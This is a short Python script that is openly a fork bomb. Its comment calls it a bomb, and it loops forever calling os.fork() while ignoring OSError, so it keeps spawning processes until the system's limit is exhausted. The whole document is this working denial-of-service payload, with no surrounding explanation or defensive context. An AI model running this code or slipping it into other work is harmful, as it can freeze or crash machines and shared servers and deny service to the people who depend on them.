# Every process forks for ever; failures are ignored so the bomb keeps pressing on the limit.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
